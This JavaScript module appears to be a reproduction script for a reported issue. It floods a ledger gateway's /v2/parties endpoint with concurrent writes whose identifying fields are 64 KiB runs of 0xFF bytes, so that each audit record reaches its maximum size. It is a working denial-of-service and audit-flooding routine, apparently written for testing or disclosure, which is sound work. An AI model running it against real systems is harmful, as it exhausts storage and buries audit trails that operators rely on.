// A1, the audit volume filled by one token holder (issue 40): ledger writes whose identifying fields
// are long strings of 0xFF bytes (each read as the 3-byte U+FFFD), as fast as the gateway answers
// them, so that every intent record is as large as the trail lets it be.
import { postJson } from './post-json.mjs';

/** Keeps `concurrency` writes in flight until `signal` aborts; resolves with their statuses. */
export async function auditVolume({ api, tokens, concurrency = 8, stringBytes = 65_536 }, signal) {
  const filler = Buffer.alloc(stringBytes, 0xff);
  const body = Buffer.concat([
    Buffer.from('{"partyIdHint":"'),
    filler,
    Buffer.from('","identityProviderId":"'),
    filler,
    Buffer.from('","userId":"'),
    filler,
    Buffer.from('"}'),
  ]);
  const answers = {};
  const loop = async (index) => {
    const token = tokens[index % tokens.length];
    while (!signal.aborted) {
      const status = await postJson(`${api}/v2/parties`, token, body);
      answers[status] = (answers[status] ?? 0) + 1;
    }
  };
  await Promise.all(Array.from({ length: concurrency }, (_, index) => loop(index)));
  return { bodyBytes: body.length, answers };
}
